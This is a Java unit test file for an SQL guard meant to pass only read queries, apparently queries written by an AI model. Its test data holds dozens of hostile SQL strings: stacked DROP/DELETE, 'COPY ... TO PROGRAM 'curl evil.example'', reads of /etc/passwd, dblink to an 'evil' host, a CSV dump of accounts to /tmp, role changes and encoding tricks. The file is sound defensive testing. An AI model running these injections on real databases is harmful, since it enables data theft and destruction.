package dev.toolgate.jdbc.source;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The SQL guard, read as an attacker would: every text that could write, lock, change the session,
 * reach outside the database or make two readers disagree is refused with the reason and the place;
 * the read statements a model writes every day pass unchanged.
 */
class SqlGuardTest {

    private final SqlGuard guard = new SqlGuard(Set.of("audit_touch"));

    /** Hostile texts and a fragment of the reason each must be refused with. */
    static Stream<Arguments> hostile() {
        return Stream.of(
                // more than one statement
                Arguments.of("SELECT 1; DROP TABLE accounts", "more than one statement"),
                Arguments.of("SELECT 1;DELETE FROM accounts;", "more than one statement"),
                Arguments.of("SELECT 1; ; ", "more than one statement"),
                Arguments.of("SELECT 1 /* hi */ ; -- bye\n UPDATE accounts SET balance = 0", "more than one statement"),
                // not a read at the start
                Arguments.of("DELETE FROM accounts", "starts with DELETE"),
                Arguments.of("  update accounts set balance = 0", "starts with UPDATE"),
                Arguments.of("INSERT INTO accounts VALUES (99, 'x', 1)", "starts with INSERT"),
                Arguments.of("TRUNCATE accounts", "starts with TRUNCATE"),
                Arguments.of("DROP TABLE accounts", "starts with DROP"),
                Arguments.of("COPY accounts TO PROGRAM 'curl evil.example'", "starts with COPY"),
                Arguments.of("CALL audit_touch()", "starts with CALL"),
                Arguments.of("DO $$ BEGIN DELETE FROM accounts; END $$", "dollar quotes"),
                Arguments.of("DO LANGUAGE plpgsql 'BEGIN NULL; END'", "starts with DO"),
                Arguments.of("EXPLAIN ANALYZE DELETE FROM accounts", "starts with EXPLAIN"),
                Arguments.of("SET ROLE postgres", "starts with SET"),
                Arguments.of("BEGIN; DELETE FROM accounts; COMMIT", "more than one statement"),
                Arguments.of("START TRANSACTION READ WRITE", "starts with START"),
                Arguments.of("MERGE INTO accounts USING x ON true WHEN MATCHED THEN DELETE", "starts with MERGE"),
                Arguments.of("\"select\" * from accounts", "starts with 'select'"),
                // writes hidden inside a read
                Arguments.of("WITH gone AS (DELETE FROM accounts RETURNING *) SELECT * FROM gone", "DELETE may write"),
                Arguments.of("WITH x AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM x", "UPDATE may write"),
                Arguments.of("WITH x AS (SELECT 1) INSERT INTO accounts SELECT 5, 'e', 0 FROM x", "INSERT may write"),
                Arguments.of("SELECT * INTO stolen FROM accounts", "INTO may write"),
                Arguments.of("SELECT * FROM FINAL TABLE (INSERT INTO accounts VALUES (7, 'h2', 1))", "INSERT may write"),
                Arguments.of("(SELECT 1) UNION (SELECT id FROM accounts); TRUNCATE accounts", "more than one statement"),
                // locks
                Arguments.of("SELECT * FROM accounts FOR UPDATE", "FOR UPDATE locks"),
                Arguments.of("SELECT * FROM accounts FOR NO KEY UPDATE", "FOR NO locks"),
                Arguments.of("SELECT * FROM accounts FOR SHARE", "FOR SHARE locks"),
                Arguments.of("SELECT * FROM accounts for  key share", "FOR KEY locks"),
                Arguments.of("SELECT * FROM accounts /* nothing */ FOR/**/UPDATE SKIP LOCKED", "FOR UPDATE locks"),
                // functions with effects outside the query
                Arguments.of("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend"),
                Arguments.of("SELECT pg_cancel_backend(1)", "pg_cancel_backend"),
                Arguments.of("SELECT set_config('search_path', 'evil', false)", "set_config"),
                Arguments.of("SELECT pg_catalog.set_config('role', 'postgres', false)", "set_config"),
                Arguments.of("SELECT \"set_config\"('a.b', 'c', false)", "set_config"),
                Arguments.of("SELECT pg_catalog . \"SET_CONFIG\" ('a.b', 'c', false)", "SET_CONFIG"),
                Arguments.of("SELECT SET_CONFIG ('a.b', 'c', false)", "set_config"),
                Arguments.of("SELECT set_config/**/('a.b', 'c', false)", "set_config"),
                Arguments.of("SELECT lo_import('/etc/passwd')", "lo_import"),
                Arguments.of("SELECT lo_export(16400, '/tmp/x')", "lo_export"),
                Arguments.of("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
                Arguments.of("SELECT pg_sleep(3600)", "pg_sleep"),
                Arguments.of("SELECT pg_advisory_lock(1)", "pg_advisory_lock"),
                Arguments.of("SELECT pg_notify('c', 'x')", "pg_notify"),
                Arguments.of("SELECT nextval('accounts_seq')", "nextval"),
                Arguments.of("SELECT setval('accounts_seq', 1000)", "setval"),
                Arguments.of("SELECT NEXT VALUE FOR accounts_seq", "NEXT VALUE FOR"),
                Arguments.of("SELECT txid_current()", "txid_current"),
                Arguments.of("SELECT query_to_xml('delete from accounts', true, true, '')", "query_to_xml"),
                Arguments.of("SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "dblink"),
                Arguments.of("SELECT dblink_exec('dbname=x', 'DROP TABLE accounts')", "dblink_exec"),
                Arguments.of("SELECT CSVWRITE('/tmp/stolen.csv', 'SELECT * FROM accounts')", "CSVWRITE"),
                Arguments.of("SELECT * FROM CSVREAD('/etc/passwd')", "CSVREAD"),
                Arguments.of("SELECT FILE_READ('/etc/passwd')", "FILE_READ"),
                Arguments.of("SELECT FILE_WRITE('x', '/tmp/x')", "FILE_WRITE"),
                Arguments.of("SELECT LINK_SCHEMA('x', '', 'jdbc:h2:mem:x', 'sa', '', 'PUBLIC')", "LINK_SCHEMA"),
                Arguments.of("SELECT audit_touch(id) FROM accounts", "audit_touch"),
                // two readers, two readings
                Arguments.of("SELECT '\\'; DELETE FROM accounts; --'", "backslash in a string literal"),
                Arguments.of("SELECT E'\\'; DELETE FROM accounts; --'", "backslash in a string literal"),
                Arguments.of("SELECT \"a\\\" FROM accounts; DELETE FROM accounts --\"", "backslash in a quoted name"),
                Arguments.of("SELECT 1 /* /* */ ; DELETE FROM accounts; -- */", "comment inside a comment"),
                Arguments.of("SELECT 1 /* never closed", "comment is not closed"),
                Arguments.of("SELECT 'never closed", "string literal is not closed"),
                Arguments.of("SELECT \"never closed", "quoted name is not closed"),
                Arguments.of("SELECT $$; DELETE FROM accounts; $$", "dollar quotes"),
                Arguments.of("SELECT $tag$ x $tag$", "dollar quotes"),
                Arguments.of("SELECT a$b FROM accounts", "dollar quotes"),
                Arguments.of("SELECT `id` FROM accounts", "back-ticks"),
                Arguments.of("SELECT U&'d\\0065lete'", "U&"),
                Arguments.of("SELECT U&\"set!005fconfig\" UESCAPE '!' ('a', 'b', false)", "U&"),
                Arguments.of("SELECT 1\u0000; DELETE FROM accounts", "control or format character"),
                Arguments.of("SELECT 1 \u200b; DELETE FROM accounts", "control or format character"),
                Arguments.of("SELECT 1delete FROM accounts", "DELETE may write"),
                // nothing to run
                Arguments.of("", "empty"),
                Arguments.of("   \n\t ", "empty"),
                Arguments.of("-- only a comment", "only comments"),
                Arguments.of("x".repeat(SqlGuard.MAX_LENGTH + 1), "longer than"));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("hostile")
    void refusesEveryHostileText(String sql, String reason) {
        assertThatThrownBy(() -> guard.check(sql)).isInstanceOfSatisfying(SqlGuard.Refused.class, refused -> {
            assertThat(refused.getMessage()).containsIgnoringCase(reason);
            assertThat(refused.describe()).startsWith("refused before it reached the database: ")
                    .contains("Only one read statement");
            assertThat(refused.offset()).isBetween(-1, sql.length());
        });
    }

    @Test
    void theCorpusIsLargeEnoughToMeanSomething() {
        assertThat(hostile().count()).isGreaterThanOrEqualTo(60);
    }

    @Test
    void saysWhereTheProblemIs() {
        String sql = "SELECT id FROM accounts WHERE id = 1; DELETE FROM accounts";
        assertThatThrownBy(() -> guard.check(sql)).isInstanceOfSatisfying(SqlGuard.Refused.class, refused -> {
            assertThat(refused.offset()).isEqualTo(sql.indexOf(';'));
            assertThat(refused.describe()).contains("(at character " + (sql.indexOf(';') + 1) + ")");
        });
    }

    @Test
    void everydayReadsPassAndOneTrailingSemicolonIsCut() throws SqlGuard.Refused {
        List<String> reads = List.of(
                "SELECT * FROM accounts",
                "select id, owner from accounts where owner = 'delete me; drop table x' order by id",
                "SELECT \"update\", \"insert\" FROM \"weird table\"",
                "SELECT 1 -- DELETE FROM accounts\n",
                "SELECT /* UPDATE accounts SET balance = 0 */ 1",
                "WITH rich AS (SELECT * FROM accounts WHERE balance > 100) SELECT owner FROM rich",
                "WITH RECURSIVE n(i) AS (VALUES (1) UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT * FROM n",
                "VALUES (1, 'a'), (2, 'b')",
                "TABLE accounts",
                "(SELECT id FROM accounts) UNION (SELECT 2)",
                "SELECT substring(owner FROM 1 FOR 3) FROM accounts",
                "SELECT replace(owner, 'a', 'b'), lower(owner), coalesce(balance, 0) FROM accounts",
                "SELECT * FROM accounts ORDER BY id OFFSET 1 ROWS FETCH FIRST 2 ROWS ONLY",
                "SELECT count(*) FILTER (WHERE balance > 0) OVER () FROM accounts",
                "SELECT 1.5e3, .5, 2E-2, x'ff', n'text', 'it''s'",
                "SELECT id FROM accounts WHERE id = ? AND owner LIKE ?",
                "SELECT CAST(balance AS numeric(10, 2)) FROM accounts",
                "SELECT date '2026-01-01' + interval '1 day'",
                "SELECT owner AS \"Owner\"\"s name\" FROM accounts");
        for (String read : reads) {
            assertThat(guard.check(read)).as(read).isEqualTo(read);
        }
        assertThat(guard.check("SELECT 1;")).isEqualTo("SELECT 1");
        assertThat(guard.check("SELECT 1 ;  -- done\n")).isEqualTo("SELECT 1 ");
    }
}
